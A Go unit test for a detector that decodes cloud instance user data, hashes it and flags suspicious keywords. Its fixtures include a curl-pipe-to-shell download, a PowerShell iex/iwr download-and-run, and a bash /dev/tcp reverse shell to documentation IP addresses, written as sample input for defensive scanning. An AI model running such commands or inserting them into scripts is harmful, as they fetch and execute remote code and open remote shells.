package resource

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// User data says what it fetches and never what it holds.
func TestUserData(t *testing.T) {
	packed := func(text string) string {
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		if _, err := z.Write([]byte(text)); err != nil {
			t.Fatal(err)
		}
		if err := z.Close(); err != nil {
			t.Fatal(err)
		}
		return b.String()
	}
	const evil = "#!/bin/sh\ncurl -s http://198.51.100.7/x | base64 -d | sh\n"
	f := func(name, plain string, bytes int, want ...string) {
		t.Helper()
		encoded := base64.StdEncoding.EncodeToString([]byte(plain))
		got, ok := userData(&encoded).(Script)
		if !ok {
			t.Fatalf("%s: %v is no script", name, userData(&encoded))
		}
		if got.Bytes != bytes || !strings.HasPrefix(got.Masked.Masked, "sha256:") {
			t.Errorf("%s: %+v, want %d bytes", name, got, bytes)
		}
		if diff := cmp.Diff(append([]string{}, want...), got.Matches); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
	f("harmless", "#!/bin/sh\necho currency\n", 24)
	f("shell", evil, len(evil), "curl", "base64")
	f("packed", packed(evil), len(evil), "curl", "base64")
	f("PowerShell", "<powershell>iex (iwr https://example.com/a.ps1)</powershell>", 60, "IEX", "Invoke-WebRequest")
	f("reverse shell", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1", 40, "/dev/tcp")

	no := ""
	for _, none := range []*string{nil, &no} {
		if got := userData(none); got != nil {
			t.Errorf("no user data is %v", got)
		}
	}
	damaged := "curl, and no base64"
	if got, ok := userData(&damaged).(Script); !ok || got.Bytes != len(damaged) {
		t.Errorf("user data that is not encoded is %v", userData(&damaged))
	}
}
